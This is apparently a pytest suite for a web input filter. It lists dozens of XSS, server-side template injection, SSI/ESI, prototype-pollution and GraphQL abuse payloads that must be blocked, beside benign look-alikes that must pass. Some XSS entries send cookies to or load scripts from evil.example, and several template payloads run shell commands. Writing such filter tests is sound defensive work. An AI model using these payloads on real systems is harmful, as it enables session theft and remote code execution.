"""Scripts, templates and includes as textbooks have them are refused; sentences, code and pages of users pass."""

from __future__ import annotations

import pytest

from tests.support.textbook import KINDS, blocks, blocks_header, blocks_name, blocks_path, table

ATTACKS = {
    "xss": {
        "a script that is not closed": "<script>x",
        "a document of another host": "<object data=//x.example/y>",
        "a style of another host": "<link rel=stylesheet href=//x.example/y.css>",
        "a handler with a template": "<svg onload=`a()`>",
        "a script": "<script>alert(document.domain)</script>",
        "a script from elsewhere": "<script src=//evil.example/x.js></script>",
        "a script that is cut off": "<script>fetch('//evil.example/?'+document.cookie)//",
        "a script with a slash": "<script/src='data:,x()'></script>",
        "a script in another case": "<ScRiPt >prompt(7)</sCrIpT>",
        "a script behind a broken attribute": '<script x=">" src="https://evil.example/a.js"></script>',
        "a script of another namespace": "<svg:script xmlns:svg='http://www.w3.org/2000/svg'>x()</svg:script>",
        "a picture that is not found": "<img src=q onerror=confirm(5)>",
        "a picture without blanks": "<img/src/onerror=x()>",
        "a picture with quotes": "<img src='q'onerror='x()'>",
        "a picture with a line break": '<img src=q\nonerror\n=\n"x()">',
        "a vector picture": "<svg onload=x()>",
        "a vector picture with a slash": "<svg/onload=x()//",
        "a body": "<body onpageshow=x()>",
        "an element of one's own": "<xyz tabindex=1 onfocus=x() autofocus>",
        "a video": "<video><source onerror=x()></video>",
        "details": "<details open ontoggle=x()>",
        "a marquee": "<marquee onstart=x()>z</marquee>",
        "an animation": "<style>@keyframes a{}</style><b style=animation-name:a onanimationstart=x()>",
        "an attribute that becomes a handler": "<svg><set attributeName=onclick to=x()></svg>",
        "an attribute that becomes a link": "<svg><a><animate attributeName=href values=javascript:x() /></a></svg>",
        "out of an attribute": '" onmouseover="x()',
        "out of an attribute at once": "' autofocus onfocus='x()",
        "out of an attribute and an element": '"><img src=q>',
        "out of a title": "</title><svg>",
        "out of a script": "</script><script>x()</script>",
        "out of an area of text": "</textarea><img src=q onerror=x()>",
        "beside an attribute": "z onclick=alert(3)",
        "out of a text of a script": "';alert(3);//",
        "out of a text by a sum": '"+alert(3)+"',
        "out of a text by a difference": "'-prompt(3)-'",
        "out of a call": "');alert(3);('",
        "in a template of a script": "${alert(3)}",
        "a link": "<a href=javascript:x()>z</a>",
        "a link by itself": "javascript:confirm(3)",
        "a link with a comment": "javascript://%0aalert(3)",
        "a link with a tab": "<a href='java\tscript:x()'>z</a>",
        "a link with entities": "<a href='&#x6a;ava&Tab;script&colon;x()'>z</a>",
        "a link of Visual Basic": "<img src='vbscript:send(3)'>",
        "a form's target": "<form action=javascript:x()><input type=submit>",
        "a button's target": "<button formaction=javascript:x()>z",
        "a frame's source": "<iframe src=javascript:x()>",
        "a frame's document": "<iframe srcdoc='&lt;script&gt;x()&lt;/script&gt;'>",
        "an object": "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
        "a document as a link": "data:text/html,<script>x()</script>",
        "a refresh": "<meta http-equiv=refresh content='0;url=javascript:x()'>",
        "a base": "<base href='//evil.example/'>",
        "a style": "<div style='width:expression(x())'>",
        "a style with comments": "<div style='w:exp/**/ression(x())'>",
        "a binding": "<style>p{-moz-binding:url('//evil.example/b.xml#c')}</style>",
        "a behaviour": "<p style=\"behavior:url('b.htc')\">",
        "an imported style": "<style>@import url('//evil.example/a.css')</style>",
        "quoted by back-ticks": "<img src=`q`onerror=`x()`>",
        "a comment": "<!--><img src=q onerror=x()>-->",
        "a mutation": '<noscript><p title="</noscript><img src=q onerror=x()>">',
        "another mutation": "<math><mtext><table><mglyph><style><img src=q onerror=x()>",
        "in pieces": "window['al'+'ert'](3)",
        "in brackets": "(alert)(3)",
        "without brackets": "confirm`4`",
        "by an error": "onerror=alert;throw 3",
        "by a list": "[3].map(alert)",
        "by a constructor": "[].filter.constructor('alert(3)')()",
        "by brackets only": "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]",
        "by numbers": "eval(String.fromCharCode(97,108,101,114,116,40,51,41))",
        "by base64": "eval(atob('YWxlcnQoMyk='))",
        "by the address": "eval(location.hash.substr(1))",
        "by a timer": "setTimeout('alert(3)')",
        "by writing": "document.write('<img src=q onerror=x()>')",
        "cookies sent away": "new Image().src='//evil.example/?c='+document.cookie",
        "a module": "import('//evil.example/a.js')",
        "a template of AngularJS": "{{constructor.constructor('alert(3)')()}}",
        "a template of Vue": "{{_c.constructor('alert(3)')()}}",
        "a directive": "<div ng-init=\"constructor.constructor('x()')()\">",
        "in every place": "`'\"--></style></title></textarea><svg/onload=x()>{{9*9}}javascript:x()",
        "in UTF-7": "+ADw-script+AD4-alert(3)+ADw-/script+AD4-",
        "encoded": "%3Cimg%20src%3Dq%20onerror%3Dx()%3E",
        "encoded twice": "%253Cscript%253Ealert(3)%253C%252Fscript%253E",
        "by escapes": "\\x3cscript\\x3ealert(3)\\x3c/script\\x3e",
        "by entities": "&lt;script&gt;alert(3)&lt;/script&gt;",
        "in full width": "\uff1cscript\uff1esend(3)\uff1c/script\uff1e",
        "with zeros": "<scr\0ipt>alert(3)</scr\0ipt>",
    },
    "ssti": {
        "a product": "{{9*8-1}}",
        "a product of a text": "{{9*'z'}}",
        "a product in dollars": "${9*8-1}",
        "a product in dollars and braces": "${{9*8-1}}",
        "a product in hashes": "#{9*8-1}",
        "a product in stars": "*{9*9}",
        "a product of Ruby": "<%= 9*8-1 %>",
        "a product of Razor": "@(9*9)",
        "a product of Smarty": "{9*9}",
        "Jinja's classes": "{{ ''.__class__.__base__.__subclasses__() }}",
        "Jinja's globals": "{{ url_for.__globals__['os'].popen('id').read() }}",
        "Jinja's cycler": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "Jinja by attributes": "{{ (request|attr('application'))|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
        "Jinja in a statement": "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
        "Flask's settings": "{{ config.values() }}",
        "Tornado": "{% import os %}{{ os.popen('id').read() }}",
        "Mako": "<% import os %>${os.popen('id').read()}",
        "Mako without an import": "${self.module.cache.util.os.popen('id').read()}",
        "Django": "{% debug %}",
        "Twig's filter": "{{ ['uptime']|map('passthru')|last }}",
        "Twig's callback": "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
        "Twig's source": "{{ source('/etc/hosts') }}",
        "Smarty's PHP": "{php}echo shell_exec('id');{/php}",
        "Smarty's condition": "{if system('id')}{/if}",
        "Smarty's version": "{$smarty.template}",
        "ERB": "<%= `id` %>",
        "ERB's files": "<%= File.read('/etc/hosts') %>",
        "Slim": "#{ %x(id) }",
        "Freemarker": '<#assign e="freemarker.template.utility.Execute"?new()>${e("id")}',
        "Freemarker in square brackets": '[#assign e="freemarker.template.utility.Execute"?new()]',
        "Velocity": "#set($r=$class.inspect('java.lang.Runtime').type)$r.getRuntime()",
        "Velocity without a tool": "#set($x='')#set($r=$x.class.forName('java.lang.Runtime'))",
        "Thymeleaf": "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
        "Spring": "*{T(java.lang.System).getenv()}",
        "a bean of Java": "${''.getClass().forName('java.lang.Runtime')}",
        "the page of Java": "${pageContext.request.getSession()}",
        "Groovy": "${'id'.execute().text}",
        "Pebble": "{{ (1).TYPE.forName('java.lang.Runtime') }}",
        "Handlebars": '{{#with "s" as |string|}}{{#with split as |conslist|}}{{this.pop}}{{/with}}{{/with}}',
        "Pug": "#{root.process.mainModule.require('child_process').execSync('id')}",
        "Nunjucks": "{{range.constructor('return global.process')()}}",
        "EJS": "<%= global.process.mainModule.require('child_process').execSync('id') %>",
        "Razor": "@{System.Diagnostics.Process.Start('cmd');}",
        "Perl": "@{[system 'uptime']}",
    },
    "ssi": {
        "a command": '<!--#exec cmd="uptime" -->',
        "a program": '<!--#exec cgi="/cgi-bin/x" -->',
        "a file": '<!--#include file="secret.txt" -->',
        "an address": '<!--#include virtual="/admin" -->',
        "a variable": '<!--#echo var="SHOP_ROOT" -->',
        "all variables": "<!--#printenv   -->x",
        "a variable that is set": '<!--#set var="a" value="b" -->',
        "an error's text": '<!--#config errmsg="x" -->',
        "a file's date": '<!--#flastmod file="x.html" -->',
        "a file's size": '<!--#fsize file="x.html" -->',
        "a condition": '<!--#if expr="a" -->',
        "in a title": '</title><!--#exec cmd="id"-->',
        "with blanks": '<!-- #exec cmd="uptime" -->',
        "in another case": '<!--#EXEC cmd="uptime" -->',
        "encoded": "%3C!--%23exec%20cmd=%22uptime%22--%3E",
        "of an edge": "<esi:include src='http://evil.example/'/>",
        "of an edge in a comment": "<!--esi $(HTTP_COOKIE) -->",
    },
    "prototype": {
        "a path": "constructor.prototype.admin",
        "a path in brackets": "__proto__[admin]=true",
        "a path with a dot": "__proto__.admin=true",
        "a document": '{"__proto__": {"admin": true}}',
        "a document by the constructor": '{"constructor": {"prototype": {"admin": true}}}',
        "a path by the constructor": "constructor[prototype][admin]=true",
        "a dotted path by the constructor": "a.constructor.prototype.admin=true",
        "the prototype itself": "Object.prototype.admin=true",
        "a deep path": "a.b.__proto__.c",
        "with quotes": "['__proto__']['admin']='x'",
    },
    "graphql": {
        "directives": "query{a @z@z@z@z@z@z@z@z@z@z@z@z}",
        "directives with arguments": "{a" + " @include(if: true)" * 12 + " }",
        "one field again and again": "{" + "__typename " * 20 + "}",
        "one field with commas": "{" + "__typename, " * 20 + "}",
        "introspection in a circle": "{__schema{types{fields{type{fields{type{fields{type{name}}}}}}}}}",
        "introspection with blanks": "{__schema { types { fields { type { fields { type { fields { a }}}}}}}}",
        "fragments in a circle": "{...A} fragment A on Q {...B} fragment B on Q {...A}",
    },
}
"""Attacks by class and by what they do: each is refused at level 1."""

STRICT = {
    "xss": {
        "a frame": "<iframe src='//evil.example'></iframe>",
        "a form": "<form action='//evil.example'><input name=password></form>",
        "an object": "<object data=x.pdf></object>",
        "any link that runs": "javascript:toggleMenu()",
        "any element": "list.innerHTML = name",
        "any function": "new XMLHttpRequest()",
    },
    "ssti": {
        "an object": "{{config}}",
        "a request": "{{ request }} x",
        "a variable": "${secret}",
        "a tag of Ruby": "<%= secret %>",
        "a call in a sentence": "hello {{ f(x) }}",
        "a condition": "{% if shop %}open{% endif %}",
    },
    "prototype": {
        "a name in a text": "see x.__proto__ there",
        "a longer name in a text": "see x.constructor.prototype.y",
    },
    "graphql": {"a large page": "{users(first: 99999999){id}}"},
}
"""What users of many applications may send: refused at level 2."""

BENIGN = {
    "markup": {
        "bold": "<b>really</b> <i>nice</i>",
        "a paragraph": '<p class="lead" style="color: #333; background: url(/a.png)">Hello</p>',
        "a link": '<a href="https://example.com/?a=1&b=2" target="_blank" rel="noopener">our shop</a>',
        "a link that does nothing": '<a href="javascript:void(0)">menu</a>',
        "a picture": '<img src="https://example.com/a.jpg" alt="on the road" width="300">',
        "a picture in itself": '<img src="data:image/png;base64,iVBORw0KGgo=">',
        "a table": "<table><tr><td>on = 1</td></tr></table>",
        "a code block": '<pre><code class="language-python">if a &lt; b: print(a)</code></pre>',
        "an address of mail": '"Ann Example" <ann@example.com>',
        "a link in angles": "see <https://example.com/a> for more",
        "arrows": "a -> b => c <- d <= e",
        "comparisons": "if x<y and y>z then onwards = 3",
        "a heart": "I <3 this shop",
        "generics": "Map<String, List<Integer>> values = new HashMap<>();",
    },
    "code and words": {
        "a sentence about scripts": "wrap it in `<script>` and `</script>` tags",
        "a sentence about handlers": "the onclick handler and the onload event are gone",
        "a book": "JavaScript: The Good Parts",
        "a sentence about alerts": "Set an alert (daily) and confirm (by mail) at the prompt.",
        "a function": "function add(a, b) { return a + b; }",
        "a settled promise": "promise.then(result => { console.log(result); })",
        "a style": "body { color: red; background: url(images/a.png) }",
        "a quotation": "'Import' - and then \"export\"; evaluate (carefully)",
        "a document": '{"onclick": "save", "location": "Berlin", "href": "javascript:;"}',
        "a search": "alert sound (mp3) download",
        "an expression": "regular expression (regex) cheat sheet",
        "an evaluation": "eval: short for evaluation (2024)",
        "a location": "location = Berlin; window = open",
        "a cookie": "please accept cookie; path = unknown",
    },
    "templates": {
        "a placeholder in a sentence": "Dear {{ first_name }}, thank you",
        "a variable in a sentence": "export PATH=${HOME}/bin and go on",
        "a template of a shop": "Hello {{name}}, your order {{order_id}} is on its way",
        "a message with a count": "{count, plural, one {# item} other {# items}}",
        "a template of text": "the value is `${value}` here",
        "a set": "{1, 2, 3} and {a: 1}",
        "a formula": "f(x) = {x * 2}",
        "a hash": "#{12} fixed, #13 open",
        "a wiki's link": "[[Main Page|start]]",
        "a checklist": "[ ] one [x] two",
        "a price": "$12 * 3 = $36",
        "a percentage": "100 % {approx}",
        "a comment": "# begin of the list",
        "an include": "#include <stdio.h>",
        "a mention": "@ann (1+2 tickets)",
        "a budget": "$set aside and #settle it",
    },
    "prototypes and queries": {
        "a sentence about prototypes": "a prototype of the constructor",
        "a sentence about keys": "keys such as `__proto__` are dropped",
        "a method": "Array.prototype.map is fine",
        "a class": "class A { constructor() { super(); } }",
        "a query": "query Shop($id: ID!) { shop(id: $id) { name address { city } } }",
        "a mutation": "mutation { addItem(id: 3, count: 2) { total } }",
        "directives": "{ a @include(if: $x) b @skip(if: $y) }",
        "mentions": "@ann @bob @cid please look",
        "a page": '{ users(first: 50, after: "x") { id __typename } }',
        "a product page": "first: 20 last: 30",
    },
}
"""What looks alike: each passes at levels 1 and 2."""

CODE = {
    "minified": '!function(e){"use strict";var t=e.setTimeout;t(function(name){e.name=name},10)}(window);',
    "a cookie": 'document.cookie="a="+encodeURIComponent(v)+"; path=/; max-age=60";',
    "the global object": 'var o=Function("return this")();',
    "a condition": "if(a){return b(c)}else{d()}",
    "a template": 'list.innerHTML=`${items.map(function(i){return i.id}).join(",")}`;',
    "a request": 'const {a, b} = await fetch("/api"); setTimeout("location.reload()", 500);',
    "a question": "confirm(this.title) && post(eval_order);",
    "a list of calls": 'f("a",setTimeout(g,1)),document.write(h),window.location="/done";',
    "a letter": "String.fromCharCode(65+i)",
    "a class": "class A extends B { constructor(name) { super(name); } }",
}
"""Code, which level 1 lets users send: to a shop's own editor, in reports of faults."""


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("text", table({"code": CODE}))
def test_code_passes_at_level_1(text: str, kind: str) -> None:
    """Code of a page is an attack where it was put into one, and that shows."""
    assert not blocks(text, kind, 1)


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("text", table(ATTACKS))
def test_a_textbook_attack_is_refused_at_level_1(text: str, kind: str) -> None:
    """Whatever hides it, and wherever it stands."""
    assert blocks(text, kind, 1)


@pytest.mark.parametrize("text", table(STRICT))
def test_what_some_users_may_send_is_refused_at_level_2(text: str) -> None:
    """It passes at level 1."""
    assert not blocks(text, "query", 1)
    assert blocks(text, "query", 2)


@pytest.mark.parametrize("level", [1, 2])
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("text", table(BENIGN))
def test_what_looks_alike_passes(text: str, kind: str, level: int) -> None:
    """Pages of users, code, templates of mails and sentences about all of them."""
    assert not blocks(text, kind, level)


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(
    "name",
    ["__proto__", "a[__proto__][b]", "a.__proto__.b", "constructor.prototype.b", "constructor[prototype][b]",
     "__proto__.b", "__pro__proto__to__[b]", "__defineGetter__", "<script>x()</script>",
     "{{9*8-1}}", "<svg onload=x()>"],
)  # fmt: skip
def test_a_name_that_attacks_is_refused_at_level_1(name: str, kind: str) -> None:
    """Applications put names into objects and into pages as well."""
    assert blocks_name(name, kind, 1)


@pytest.mark.parametrize(
    "name", ["proto", "prototype", "constructor", "items[0][name]", "onclick", "user.name", "$type"]
)
def test_a_harmless_name_passes(name: str) -> None:
    """Names are words."""
    assert not blocks_name(name, "query", 2)


@pytest.mark.parametrize(
    "query", ["{__schema{types{name}}}", '{ __type(name: "User") { name } }', "query IntrospectionQuery {a}"]
)
def test_introspection_is_refused_at_level_3(query: str) -> None:
    """Tools of developers ask for it: the strictest level alone refuses it."""
    assert not blocks(query, "json", 2)
    assert blocks(query, "json", 3)


@pytest.mark.parametrize(
    "path", ["/a/%3Cscript%3Ealert(1)%3C/script%3E", "/%22onmouseover=%22x()", "/a/<svg/onload=x()>"]
)
def test_a_script_in_a_path_is_refused_at_level_1(path: str) -> None:
    """Pages of errors show what was not found."""
    assert blocks_path(path, 1)


@pytest.mark.parametrize("name", ["x-forwarded-host", "user-agent", "cookie"])
@pytest.mark.parametrize("value", ["<script>draw(4)</script>", "a=<img src=q onerror=x()>", "{{6*90}}x"])
def test_a_header_that_attacks_is_refused_at_level_1(name: str, value: str) -> None:
    """Pages of administrators show who came."""
    assert blocks_header(name, value, 1)
